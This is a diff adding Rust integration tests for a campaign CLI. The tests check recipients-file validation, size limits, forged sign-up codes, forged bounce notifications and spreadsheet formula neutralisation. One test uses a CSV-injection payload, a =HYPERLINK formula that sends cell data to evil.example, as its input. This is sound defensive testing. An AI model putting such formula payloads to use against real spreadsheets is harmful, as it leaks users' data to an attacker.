@@ -436,3 +436,517 @@ async fn campaign_run_shows_a_progress_bar_on_a_terminal() {
         "{text}"
     );
 }
+
+/// The file's data lines (after the header), as `wc -l` would count them plus an
+/// unterminated last line.
+fn data_lines(bytes: &[u8]) -> u64 {
+    let mut n = bytes.split(|b| *b == b'\n').count() as u64;
+    if bytes.ends_with(b"\n") {
+        n -= 1;
+    }
+    n - 1
+}
+
+/// `FILE:LINE: reason` lines of `stderr`, by line.
+fn reported(stderr: &str, file: &str) -> Vec<(u64, String)> {
+    let prefix = format!("{file}:");
+    let mut got: Vec<(u64, String)> = stderr
+        .lines()
+        .filter_map(|l| l.strip_prefix(&prefix))
+        .filter_map(|l| {
+            let (n, r) = l.split_once(": ")?;
+            Some((n.parse().ok()?, r.to_string()))
+        })
+        .collect();
+    got.sort_by_key(|g| g.0);
+    got
+}
+
+/// The corpus of broken recipients files (tests/support/campaigns/broken): every data line
+/// is accounted for — added + invalid + duplicates + blank is the file's number of data
+/// lines — and each bad line is reported with its own number and reason. An unterminated
+/// quote costs its own line, not the valid rows after it.
+#[tokio::test]
+async fn recipients_corpus_every_line_is_accounted_for() {
+    let cli = Cli::new().await;
+    let offer = cli.trial_offer();
+    let mut files: Vec<std::path::PathBuf> =
+        std::fs::read_dir(common::manifest("tests/support/campaigns/broken"))
+            .unwrap()
+            .map(|e| e.unwrap().path())
+            .filter(|p| p.extension().is_some_and(|x| x == "csv"))
+            .collect();
+    files.sort();
+    assert!(files.len() >= 6, "{files:?}");
+    for f in files {
+        let name = f.file_name().unwrap().to_str().unwrap().to_string();
+        let fs = f.to_str().unwrap();
+        let expected = std::fs::read_to_string(f.with_extension("expected")).unwrap();
+        let mut want_added = None;
+        let mut want: Vec<(u64, String)> = Vec::new();
+        for l in expected
+            .lines()
+            .filter(|l| !l.starts_with('#') && !l.trim().is_empty())
+        {
+            if let Some(n) = l.strip_prefix("added: ") {
+                want_added = Some(n.parse::<u64>().unwrap());
+            } else {
+                let (n, r) = l.split_once(": ").unwrap();
+                want.push((n.parse().unwrap(), r.to_string()));
+            }
+        }
+        let o = cli.run(&[
+            "campaign",
+            "create",
+            &offer,
+            "--name",
+            &name,
+            "--recipients",
+            fs,
+            "--json",
+        ]);
+        assert_eq!(o.ok, want.is_empty(), "{name}: {}\n{}", o.stdout, o.stderr);
+        let id = o.stdout.split_whitespace().nth(1).unwrap().to_string();
+        let json: serde_json::Value =
+            serde_json::from_str(&o.stdout[o.stdout.find('{').unwrap()..]).unwrap();
+        let g = |k: &str| json[k].as_u64().unwrap();
+        let lines = data_lines(&std::fs::read(&f).unwrap());
+        assert_eq!(g("lines"), lines, "{name}: {json}");
+        assert_eq!(
+            g("added") + g("invalid") + g("duplicates") + g("blank"),
+            lines,
+            "{name}: the counts do not add up to the data lines: {json}"
+        );
+        assert_eq!(Some(g("added")), want_added, "{name}: {json}\n{}", o.stderr);
+        let got = reported(&o.stderr, fs);
+        assert_eq!(
+            got.iter().map(|g| g.0).collect::<Vec<_>>(),
+            want.iter().map(|w| w.0).collect::<Vec<_>>(),
+            "{name}: lines reported:\n{}",
+            o.stderr
+        );
+        for ((line, got), (_, want)) in got.iter().zip(&want) {
+            assert!(
+                got.starts_with(want.as_str()),
+                "{name}:{line}: `{got}` is not `{want}…`"
+            );
+        }
+        assert_eq!(got.len() as u64, g("invalid") + g("duplicates"), "{name}");
+        let report = cli.ok(&["campaign", "report", &id]);
+        assert_eq!(
+            report.lines().count() as u64,
+            1 + g("added"),
+            "{name}: {report}"
+        );
+    }
+}
+
+/// A value of 10 MB (one line of a recipients file) is refused with a short excerpt: it is
+/// neither stored nor echoed, and the CLI's memory stays small.
+#[tokio::test]
+async fn oversized_field_is_refused_with_an_excerpt() {
+    let cli = Cli::new().await;
+    let offer = cli.trial_offer();
+    let dir = tempfile::tempdir().unwrap();
+    let file = dir.path().join("big.csv");
+    let mut csv =
+        b"email,name,segment\nanna@contoso.example,Anna,a\nbert@contoso.example,Bert,".to_vec();
+    csv.extend(std::iter::repeat_n(b'x', 10 * 1024 * 1024));
+    csv.extend_from_slice(b"\ncarl@contoso.example,Carl,c\n");
+    csv.extend_from_slice(format!("{}@contoso.example,Dora,d\n", "d".repeat(300)).as_bytes());
+    std::fs::write(&file, &csv).unwrap();
+    let fs = file.to_str().unwrap();
+    let time = std::path::Path::new("/usr/bin/time");
+    let bin = env!("CARGO_BIN_EXE_partnerflow");
+    let mut cmd = if time.exists() {
+        let mut c = Command::new(time);
+        c.args(["-f", "maxrss_kb=%M", bin]);
+        c
+    } else {
+        Command::new(bin)
+    };
+    let o = cmd
+        .args([
+            "campaign",
+            "create",
+            &offer,
+            "--name",
+            "big",
+            "--recipients",
+            fs,
+        ])
+        .envs(cli.env.iter().cloned())
+        .env_remove("RUST_LOG")
+        .output()
+        .unwrap();
+    let (stdout, stderr) = (
+        String::from_utf8_lossy(&o.stdout),
+        String::from_utf8_lossy(&o.stderr),
+    );
+    assert!(!o.status.success(), "a bad row makes the exit status 1");
+    assert!(
+        stderr.len() < 4096,
+        "the error echoes the value: {} bytes",
+        stderr.len()
+    );
+    assert!(
+        stderr.contains(&format!(
+            "{fs}:3: the line is {} bytes long, at most 16384: `bert@contoso.example,Bert,xxxxxxxxxxxxxx…`",
+            10 * 1024 * 1024 + 26
+        )),
+        "{stderr}"
+    );
+    assert!(
+        stderr.contains(&format!(
+            "{fs}:5: email: 316 characters, at most 254: `dddd"
+        )),
+        "{stderr}"
+    );
+    assert!(stdout.contains("4 lines: 2 added, 2 invalid"), "{stdout}");
+    if let Some(kb) = stderr
+        .lines()
+        .find_map(|l| l.strip_prefix("maxrss_kb="))
+        .and_then(|k| k.trim().parse::<u64>().ok())
+    {
+        assert!(kb < 80_000, "the CLI peaked at {kb} KB");
+    }
+    let id = stdout.split_whitespace().nth(1).unwrap().to_string();
+    let report = cli.ok(&["campaign", "report", &id]);
+    assert_eq!(report.lines().count(), 3, "{report}");
+    assert!(report.len() < 4096);
+}
+
+/// A recipients file that cannot be read at all (UTF-16, no `email` column, empty, missing)
+/// is refused before anything is written: `campaign create --recipients` leaves no empty
+/// draft behind, and `campaign add` adds nothing.
+#[tokio::test]
+async fn unreadable_recipients_file_leaves_no_campaign() {
+    let cli = Cli::new().await;
+    let offer = cli.trial_offer();
+    let dir = tempfile::tempdir().unwrap();
+    let utf16: Vec<u8> = "\u{feff}email,name\r\nanna@contoso.example,Anna\r\n"
+        .encode_utf16()
+        .flat_map(u16::to_le_bytes)
+        .collect();
+    let utf16_no_bom: Vec<u8> = "email,name\nanna@contoso.example,Anna\n"
+        .encode_utf16()
+        .flat_map(u16::to_le_bytes)
+        .collect();
+    let cases: Vec<(&str, Vec<u8>, &str)> = vec![
+        ("utf16.csv", utf16, "line 1: the file is UTF-16"),
+        (
+            "utf16-no-bom.csv",
+            utf16_no_bom,
+            "line 1: the file is UTF-16",
+        ),
+        (
+            "no-email.csv",
+            b"name,company\nAnna,Contoso\n".to_vec(),
+            "line 1: the header needs an `email` column",
+        ),
+        ("empty.csv", Vec::new(), "line 1: the file is empty"),
+        (
+            "latin1.csv",
+            b"e\xffmail\nanna@contoso.example\n".to_vec(),
+            "line 1: the header is not UTF-8",
+        ),
+    ];
+    for (name, bytes, want) in &cases {
+        let f = dir.path().join(name);
+        std::fs::write(&f, bytes).unwrap();
+        let fs = f.to_str().unwrap();
+        let o = cli.run(&[
+            "campaign",
+            "create",
+            &offer,
+            "--name",
+            name,
+            "--recipients",
+            fs,
+        ]);
+        assert!(!o.ok, "{name}: {}", o.stdout);
+        assert!(
+            o.stderr.contains(&format!("{fs}: {want}")),
+            "{name}: {}",
+            o.stderr
+        );
+        assert!(!o.stdout.contains("created"), "{name}: {}", o.stdout);
+    }
+    let missing = dir.path().join("missing.csv");
+    let o = cli.run(&[
+        "campaign",
+        "create",
+        &offer,
+        "--name",
+        "missing",
+        "--recipients",
+        missing.to_str().unwrap(),
+    ]);
+    assert!(!o.ok);
+    let list: serde_json::Value =
+        serde_json::from_str(&cli.ok(&["campaign", "list", "--json"])).unwrap();
+    assert_eq!(list, serde_json::json!([]), "no campaign was left behind");
+    // `campaign add` of an unreadable file to a campaign adds nothing.
+    let out = cli.ok(&["campaign", "create", &offer, "--name", "later"]);
+    let id = out.split_whitespace().nth(1).unwrap().to_string();
+    let f = dir.path().join("utf16.csv");
+    let o = cli.run(&["campaign", "add", &id, f.to_str().unwrap()]);
+    assert!(!o.ok && o.stderr.contains("UTF-16"), "{}", o.stderr);
+    assert!(
+        cli.ok(&["campaign", "status", &id])
+            .contains("0 recipients")
+    );
+}
+
+/// `campaign report` neutralises spreadsheet formulas (OWASP CSV injection): a cell starting
+/// with `=`, `+`, `-`, `@`, tab or carriage return gets a `'` before it — addresses and
+/// reasons (here an operator's suppression reason) alike, on stdout and with --out.
+#[tokio::test]
+async fn campaign_report_neutralises_formulas() {
+    let cli = Cli::new().await;
+    let offer = cli.trial_offer();
+    let formula = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Details\")";
+    cli.ok(&[
+        "suppressions",
+        "add",
+        "sperre@contoso.example",
+        "--reason",
+        formula,
+    ]);
+    let dir = tempfile::tempdir().unwrap();
+    let file = dir.path().join("r.csv");
+    std::fs::write(
+        &file,
+        "email,name\n=1+2@contoso.example,A\n+49@contoso.example,B\n-5@contoso.example,C\nsperre@contoso.example,D\nnormal@contoso.example,E\n",
+    )
+    .unwrap();
+    let out = cli.ok(&[
+        "campaign",
+        "create",
+        &offer,
+        "--name",
+        "formulas",
+        "--recipients",
+        file.to_str().unwrap(),
+    ]);
+    let id = out.split_whitespace().nth(1).unwrap().to_string();
+    let to = dir.path().join("report.csv");
+    cli.ok(&["campaign", "report", &id, "--out", to.to_str().unwrap()]);
+    for report in [
+        cli.ok(&["campaign", "report", &id]),
+        std::fs::read_to_string(&to).unwrap(),
+    ] {
+        let mut r = csv::Reader::from_reader(report.as_bytes());
+        let mut rows = 0;
+        for rec in r.records() {
+            let rec = rec.unwrap();
+            rows += 1;
+            for cell in rec.iter() {
+                assert!(
+                    !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
+                    "a formula cell: {cell:?} in {report}"
+                );
+            }
+        }
+        assert_eq!(rows, 5, "{report}");
+        for want in [
+            ",'=1+2@contoso.example,",
+            ",'+49@contoso.example,",
+            ",'-5@contoso.example,",
+            "'=HYPERLINK(",
+            ",normal@contoso.example,pending,",
+        ] {
+            assert!(report.contains(want), "{want} missing: {report}");
+        }
+    }
+}
+
+/// `signups import`: a row whose advisor code does not verify (tampered, or naming no offer
+/// of ours) is refused with its line and the exit status is 1; the other rows are taken.
+#[tokio::test]
+async fn signup_import_refuses_forged_codes() {
+    let cli = Cli::new().await;
+    let id = cli.trial_offer();
+    let show: serde_json::Value =
+        serde_json::from_str(&cli.ok(&["offer", "show", &id, "--json"])).unwrap();
+    let code = show["link"]
+        .as_str()
+        .unwrap()
+        .rsplit('/')
+        .next()
+        .unwrap()
+        .to_string();
+    // The same code with its MAC's first character changed, and one for an offer we do not
+    // have.
+    let (head, mac) = code.rsplit_once('.').unwrap();
+    let flipped = if mac.starts_with('A') { 'B' } else { 'A' };
+    let tampered = format!("{head}.{flipped}{}", &mac[1..]);
+    let other_offer = code.replacen(&id, "PF-ZZZZZZZZ", 1);
+    assert_ne!(other_offer, code);
+    let csv = format!(
+        "advisor_code,customer_domain,completed_at\n\
+         {code},fabrikam.example,2026-11-02T10:00:00Z\n\
+         {tampered},tailspin.example,2026-11-02T10:00:00Z\n\
+         {other_offer},northwind.example,2026-11-02T10:00:00Z\n\
+         not-a-code,wingtip.example,2026-11-02T10:00:00Z\n\
+         {code},contoso.example,2026-11-02T11:00:00Z\n"
+    );
+    // And a domain of 1 MB.
+    let long = format!(
+        "{code},{}.example,2026-11-02T11:00:00Z",
+        "x".repeat(1024 * 1024)
+    );
+    let csv = format!("{csv}{long}\n");
+    let file = cli._dir.path().join("signups.csv");
+    std::fs::write(&file, csv).unwrap();
+    let f = file.display().to_string();
+    let o = cli.run(&["signups", "import", &f]);
+    assert!(!o.ok, "a refused row makes the exit status 1: {}", o.stdout);
+    for line in [3, 4, 5] {
+        assert!(
+            o.stderr
+                .contains(&format!("{f}:{line}: advisor_code: does not verify")),
+            "line {line}: {}",
+            o.stderr
+        );
+    }
+    assert!(
+        o.stderr.contains(&format!(
+            "{f}:7: the line is {} bytes long, at most 4096",
+            long.len()
+        )),
+        "{}",
+        &o.stderr[..o.stderr.len().min(2000)]
+    );
+    assert!(o.stderr.len() < 4096, "an oversized value is echoed");
+    assert!(
+        o.stdout.contains("2 sign-ups recorded") && o.stdout.contains("4 bad rows skipped"),
+        "{}",
+        o.stdout
+    );
+    // Only the two verified ones were recorded.
+    let r = cli.ok(&["schedules", "run", "reconcile"]);
+    assert!(r.contains("2 sign-ups unmatched"), "{r}");
+}
+
+/// Bounces act only on messages we sent: a DSN whose Message-ID is none of ours, or whose
+/// recipient is not that message's recipient, changes nothing and suppresses nobody; it is
+/// counted and listed by `bounces list --unmatched`. A DSN naming thousands of recipients is
+/// refused whole. A real bounce among made-up recipients still counts for the real one.
+#[tokio::test]
+async fn unmatched_bounces_are_listed_not_acted_on() {
+    let cli = Cli::new().await;
+    let offer = cli.trial_offer();
+    let dir = tempfile::tempdir().unwrap();
+    let file = dir.path().join("r.csv");
+    std::fs::write(
+        &file,
+        "email\nanna@contoso.example\nbert@contoso.example\ncarl@contoso.example\n",
+    )
+    .unwrap();
+    let out = cli.ok(&[
+        "campaign",
+        "create",
+        &offer,
+        "--name",
+        "b",
+        "--recipients",
+        file.to_str().unwrap(),
+    ]);
+    let id = out.split_whitespace().nth(1).unwrap().to_string();
+    cli.ok(&["campaign", "run", &id]);
+    let report = cli.ok(&["campaign", "report", &id]);
+    let mid = |email: &str| {
+        report
+            .lines()
+            .find(|l| l.contains(email))
+            .unwrap()
+            .split(',')
+            .nth(3)
+            .unwrap()
+            .to_string()
+    };
+    let (anna, bert) = (mid("anna@contoso.example"), mid("bert@contoso.example"));
+    let dsns = dir.path().join("dsns");
+    std::fs::create_dir(&dsns).unwrap();
+    let write = |n: &str, text: String| std::fs::write(dsns.join(n), text).unwrap();
+    // 1. A Message-ID that is none of ours, naming a real recipient.
+    write(
+        "1-forged-id.eml",
+        common::dsn(
+            "<cmp_forged.2@partnerflow.example>",
+            &["carl@contoso.example".to_string()],
+        ),
+    );
+    // 2. Bert's real Message-ID, naming someone else.
+    write(
+        "2-other-recipient.eml",
+        common::dsn(&bert, &["victim@contoso.example".to_string()]),
+    );
+    // 3. Anna's Message-ID naming 5,000 made-up addresses and Anna: refused whole.
+    let mut many = common::evil_addresses(5000);
+    many.push("anna@contoso.example".into());
+    let big = common::dsn(&anna, &many);
+    assert!(big.len() > 300_000);
+    write("3-many.eml", big);
+    // 4. Anna's Message-ID naming Anna and two others: Anna's counts, the others do not.
+    let mut few = common::evil_addresses(2);
+    few.insert(1, "ANNA@contoso.example".into());
+    write("4-real.eml", common::dsn(&anna, &few));
+    let o = cli.run(&["bounces", "ingest", dsns.to_str().unwrap()]);
+    assert!(!o.ok, "the refused DSN makes the exit status 1");
+    assert!(
+        o.stderr
+            .contains("3-many.eml: delivery status notification naming 5001 recipients"),
+        "{}",
+        o.stderr
+    );
+    assert!(
+        o.stdout.contains("1 hard bounces")
+            && o.stdout.contains("4 matching no message we sent")
+            && o.stdout.contains("1 not bounces"),
+        "{}",
+        o.stdout
+    );
+    let sup = cli.ok(&["suppressions", "list", "--json"]);
+    let sup: serde_json::Value = serde_json::from_str(&sup).unwrap();
+    let emails: Vec<&str> = sup
+        .as_array()
+        .unwrap()
+        .iter()
+        .map(|s| s["email"].as_str().unwrap())
+        .collect();
+    assert_eq!(
+        emails,
+        vec!["anna@contoso.example"],
+        "only Anna is suppressed"
+    );
+    let st = cli.ok(&["campaign", "status", &id]);
+    assert!(
+        st.contains("3 recipients: 0 pending, 0 sending, 2 sent, 0 failed, 1 bounced"),
+        "{st}"
+    );
+    let un = cli.ok(&["bounces", "list", "--unmatched"]);
+    assert_eq!(
+        un.lines().filter(|l| l.contains("unmatched: ")).count(),
+        4,
+        "{un}"
+    );
+    assert!(
+        un.contains("carl@contoso.example <cmp_forged.2@partnerflow.example>  unmatched: no message we sent has this Message-ID"),
+        "{un}"
+    );
+    assert!(
+        un.contains(&format!("victim@contoso.example {bert}  unmatched: the recipient is not that message's recipient")),
+        "{un}"
+    );
+    assert!(un.contains("4 bounces matched no message we sent"), "{un}");
+    assert!(!un.contains("anna@contoso.example"), "{un}");
+    let all = cli.ok(&["bounces", "list"]);
+    assert!(
+        all.contains(&format!(
+            "ANNA@contoso.example {anna}  campaign {id} line 2, suppressed"
+        )),
+        "{all}"
+    );
+}
